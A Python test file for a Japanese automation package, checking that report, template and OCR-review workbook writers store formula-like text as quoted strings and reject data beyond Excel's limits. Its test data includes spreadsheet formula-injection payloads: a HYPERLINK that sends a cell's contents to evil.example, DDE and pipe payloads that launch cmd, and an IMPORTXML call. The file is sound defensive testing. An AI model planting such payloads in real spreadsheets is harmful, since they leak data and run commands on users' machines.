"""Every workbook writer keeps formula-like text as text and refuses what Excel cannot hold, before writing."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from kyodo.core.errors import BusinessError

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
            '=IMPORTXML("http://evil.example","//a")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=",
            "+81-83-922-1111"]  # a phone number too: Excel would compute it once a clerk edits the cell
PLAIN = ["-500", "+1.5", "普通の文", "0120-000-000"]  # data that no spreadsheet runs: written unchanged


def _assert_text(cell, value: str) -> None:
    value = value.replace("\r", "\n")  # XML reading turns a stored CR into LF (openpyxl writes it unescaped)
    assert cell.value == value and cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
    assert cell.quotePrefix, f"{cell.coordinate}: no quote prefix, Excel would turn an edited {value!r} into a formula"


def test_csv_formulas_reach_the_report_as_text_and_numbers_stay_numbers(tmp_path: Path) -> None:
    from kyodo.robots.context import RunContext
    from kyodo.robots.excel.actions import read_csv, write_report

    lines = ["番号,内容,金額"] + [f'{i},"{v.replace(chr(34), chr(34) * 2)}",{i * 100}' for i, v in enumerate(FORMULAS + PLAIN, 1)]
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "申請.csv").write_text("\r\n".join(lines) + "\r\n", encoding="utf-8-sig")
    ctx = RunContext(run_id="t", artifact_dir=tmp_path / "run", input_dirs=(tmp_path / "in",))
    df = read_csv(ctx, path="申請.csv")
    df["金額"] = df["金額"].astype(int)
    out = write_report(ctx, path="結果.xlsx", sheets=[{"sheet": "一覧", "table": df}])
    ws = load_workbook(out)["一覧"]
    for row, value in enumerate(FORMULAS, 2):
        _assert_text(ws.cell(row=row, column=2), value)
    for row, value in enumerate(PLAIN, 2 + len(FORMULAS)):
        cell = ws.cell(row=row, column=2)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", False)
    amounts = [ws.cell(row=r, column=3) for r in range(2, 2 + len(FORMULAS + PLAIN))]
    assert [(c.value, c.data_type) for c in amounts] == [(i * 100, "n") for i in range(1, 1 + len(FORMULAS + PLAIN))]


def test_template_fill_keeps_formulas_as_text(tmp_path: Path) -> None:
    import pandas as pd

    from kyodo.robots.workbook.template import fill_table, open_template, save_atomic, set_cells

    wb = Workbook()
    ws = wb.active
    ws.title = "明細"
    ws["A5"].number_format = "@"
    wb.save(tmp_path / "様式.xlsx")
    wb = open_template(tmp_path / "様式.xlsx")
    set_cells(wb["明細"], {"B2": "=HYPERLINK(\"http://x\")", "B3": 12345})
    table = pd.DataFrame({"名前": FORMULAS, "件数": range(len(FORMULAS))})
    fill_table(wb["明細"], "A5", ["名前", "件数"], table)
    save_atomic(wb, tmp_path / "out.xlsx")
    ws = load_workbook(tmp_path / "out.xlsx")["明細"]
    _assert_text(ws["B2"], '=HYPERLINK("http://x")')
    assert (ws["B3"].value, ws["B3"].data_type) == (12345, "n")
    for i, value in enumerate(FORMULAS):  # row 5 has the template's style, rows 6.. a copy of it
        _assert_text(ws.cell(row=5 + i, column=1), value)
        assert ws.cell(row=5 + i, column=2).value == i


def test_ocr_review_workbook_keeps_formulas_as_text(tmp_path: Path) -> None:
    from kyodo.robots.ocr.reader import Batch
    from kyodo.robots.ocr.review import write_review_workbook

    batch = Batch(rejected=[{"ファイル": "=HYPERLINK(\"http://x\")", "理由": "@SUM(1)"}])
    out = write_review_workbook(batch, [], tmp_path / "review.xlsx")
    ws = load_workbook(out)["要確認（ファイル）"]
    _assert_text(ws["A2"], "=HYPERLINK(\"http://x\")")
    _assert_text(ws["B2"], "@SUM(1)")


@pytest.mark.parametrize("shape,match", [
    ((1, 16_385), "16,384 列"),
    ((1_048_576, 1), "1,048,576 行"),  # + the header row is one row too many
])
def test_excel_limits_are_checked_before_writing(tmp_path: Path, shape: tuple[int, int], match: str) -> None:
    import numpy as np
    import pandas as pd

    from kyodo.robots.excel.report import Sheet, write_workbook

    rows, cols = shape
    df = pd.DataFrame(np.zeros((rows, cols), dtype=np.int8))
    dest = tmp_path / "big.xlsx"
    with pytest.raises(BusinessError, match=match) as info:
        write_workbook(dest, [Sheet("大きな表", df)])
    assert "大きな表" in info.value.where
    assert not dest.exists() and not list(tmp_path.iterdir())


@pytest.mark.parametrize("value,match", [("あ" * 200_000, "200,000 文字"), ("a\x00b", "U\\+0000")])
def test_a_cell_excel_cannot_hold_is_refused_with_its_place_not_cut(tmp_path: Path, value: str, match: str) -> None:
    import pandas as pd

    from kyodo.robots.excel.report import Sheet, write_workbook

    df = pd.DataFrame({"id": [1, 2], "本文": ["短い", value]})
    with pytest.raises(BusinessError, match=match) as info:
        write_workbook(tmp_path / "x.xlsx", [Sheet("本文", df)])
    assert info.value.where == "シート「本文」 B3"
    assert "\x00" not in str(info.value)
    assert not (tmp_path / "x.xlsx").exists()


def test_template_fill_past_the_last_column_is_refused(tmp_path: Path) -> None:
    import pandas as pd

    from kyodo.robots.workbook.template import fill_table

    ws = Workbook().active
    with pytest.raises(BusinessError, match="16,384 列"):
        fill_table(ws, "XFC5", ["a", "b", "c"], pd.DataFrame({"a": [1], "b": [2], "c": [3]}))
